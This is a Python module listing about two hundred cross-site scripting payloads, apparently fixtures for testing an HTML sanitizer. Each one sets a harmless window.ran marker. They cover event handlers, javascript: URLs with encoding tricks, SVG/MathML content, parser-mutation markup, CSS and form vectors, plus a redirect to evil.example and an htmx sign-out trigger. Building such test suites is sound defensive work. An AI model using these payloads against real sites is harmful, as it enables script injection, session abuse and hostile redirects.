"""
Two hundred ways to make a browser run what a text says; each would set ``window.ran`` if it worked.

By family: elements that load or play and tell of it, events, addresses with a script in them, foreign
content, broken markup that a browser mends into something else, style, encodings, and forms.
"""

RUN = "window.ran=(window.ran||0)+1"

#: One event a word.
_EVENTS = """
    onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick
    onbeforecopy onbeforeinput onbeforetoggle onblur oncanplay onclick oncontextmenu oncopy
    oncuechange oncut ondblclick ondrag ondrop ondurationchange onended onerror onfocus onfocusin
    onformdata ongotpointercapture oninput oninvalid onkeydown onload onloadeddata onmousedown
    onmouseenter onmouseover onpaste onplay onpointerenter onpointerover onprogress onreset
    onresize onscroll onscrollend onsearch onseeked onselect onselectionchange onselectstart
    onslotchange onsubmit ontimeupdate ontoggle ontouchstart ontransitionend onunhandledrejection
    onvolumechange onwebkitanimationend onwheel
"""

_BY_EVENT = [f'<p {event}="{RUN}" tabindex="0" class="align-center">事件</p>' for event in _EVENTS.split()]

_ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\x20type='text/javascript'>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN};//<</script>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror={RUN}>",
    f'<img src="/desk/files/{"a" * 64}.png" onerror="{RUN}">',
    f'<img src="/desk/files/{"a" * 64}.png" alt="x" onload="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\x0c={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<img src=`x` onerror=`{RUN}`>",
    f"<image src=x onerror={RUN}>",
    f"<img srcset='x 1x' onerror={RUN}>",
    f"<picture><source srcset=x onerror={RUN}><img src=x onerror={RUN}></picture>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster=x onloadstart={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<body background=x onpageshow={RUN}>",
    f"<frameset onload={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f'<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>\'>',
    f"<applet code=x onerror={RUN}></applet>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<marquee loop=1 width=0 onfinish={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a autofocus tabindex=1 onfocus={RUN}>x</a>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    f"<style onload={RUN}></style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='javascript:/'><a href='x'>x</a>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<table background='javascript:{RUN}'><tr><td>x</td></tr></table>",
    f"<td background='javascript:{RUN}'>x</td>",
    f"<bgsound src='javascript:{RUN}'>",
    f"<layer src='javascript:{RUN}'></layer>",
    f"<xml id=x><i><b><img src=x onerror={RUN}></b></i></xml>",
    f"<custom-element onclick={RUN} autofocus tabindex=1 onfocus={RUN}>x</custom-element>",
    f"<slot onslotchange={RUN}></slot>",
    f"<portal src='javascript:{RUN}'></portal>",
]

_ADDRESSES = [
    f"<a id=go href='{address}'>链接</a>"
    for address in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"  javascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"java&#10;script:{RUN}",
        f"java&Tab;script:{RUN}",
        f"java&NewLine;script:{RUN}",
        f"&#106;avascript:{RUN}",
        f"&#x6A;avascript:{RUN}",
        f"&#0000106avascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"javascript&#58;{RUN}",
        f"\x01javascript:{RUN}",
        f"\x00javascript:{RUN}",
        f"vbscript:{RUN}",
        f"livescript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"feed:javascript:{RUN}",
        f"view-source:javascript:{RUN}",
        f"blob:javascript:{RUN}",
        f"filesystem:javascript:{RUN}",
        f"javascript://%0a{RUN}",
        f"jav\u200bascript:{RUN}",
        f"ｊavascript:{RUN}",
    )
]

_FOREIGN = [
    f"<svg onload={RUN}></svg>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'></script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=href to='javascript:{RUN}'></svg>",
    f'<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>#x\'></svg>',
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<math><maction actiontype='statusline#x' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<?php echo '<script>{RUN}</script>' ?>",
]

_MENDED = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>">',
    f'<noframes><img title="</noframes><img src=x onerror={RUN}>">',
    f'<xmp><img title="</xmp><img src=x onerror={RUN}>">',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
    f'<title><img title="</title><img src=x onerror={RUN}>">',
    f"<plaintext><img src=x onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<select><option><script>{RUN}</script></option></select>",
    f"<table><caption><svg onload={RUN}></caption></table>",
    f"<table><tr><td><p title='</td><img src=x onerror={RUN}>'>x</td></tr></table>",
    f"<p title='</p><script>{RUN}</script>'>x</p>",
    f"<p title=</p><img/src=x/onerror={RUN}>x</p>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--x--!><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
    f"<a href='x\"><img src=x onerror={RUN}>'>x</a>",
    f'<a title=\'x" onmouseover="{RUN}" y="\'>x</a>',
    f"<img alt='\"><script>{RUN}</script>' src='/desk/files/{'b' * 64}.png'>",
    f"<img alt='x' title='\" onerror=\"{RUN}' src='/desk/files/{'b' * 64}.png'>",
    f"<ol start='1\" onclick=\"{RUN}'><li>x</li></ol>",
    f"<td colspan='2\" onclick=\"{RUN}'>x</td>",
    f"<p class='align-center\" onclick=\"{RUN}'>x</p>",
    f"<br clear=all onclick={RUN}",
    f"<p><script>{RUN}",
    f"<p><img src=x onerror={RUN}",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
]

_STYLE = [
    f"<p style='background:url(javascript:{RUN})'>x</p>",
    f"<p style='width:expression({RUN})'>x</p>",
    f"<p style='-moz-binding:url(javascript:{RUN})'>x</p>",
    f"<p style='behavior:url(#default#time2)' onbegin={RUN}>x</p>",
    "<style>@import 'javascript:x';</style>",
    f"<style>*{{background:url('javascript:{RUN}')}}</style>",
    f"<div style='position:fixed;inset:0' onclick={RUN}>盖住整页</div>",
    f"<p style='animation-name:x' onanimationstart={RUN}>x</p><style>@keyframes x{{}}</style>",
]

_FORMS = [
    f"<form action='javascript:{RUN}'><input type=submit autofocus></form>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"<form id=f></form><button form=f formaction='javascript:{RUN}'>x</button>",
    f"<input type=image src=x onerror={RUN}>",
    f"<isindex action='javascript:{RUN}'>",
    f"<input type=hidden accesskey=x onclick={RUN}>",
    "<a href=# hx-get='/desk/sign-out/' hx-trigger=load>x</a>",
    "<p data-hx-post='/desk/elder/' data-hx-trigger='load'>x</p>",
    f"<p hx-on:htmx:load='{RUN}'>x</p>",
    "<a href='x' data-copy='x' data-dialog>x</a>",
]

PAYLOADS = [*_BY_EVENT, *_ELEMENTS, *_ADDRESSES, *_FOREIGN, *_MENDED, *_STYLE, *_FORMS]
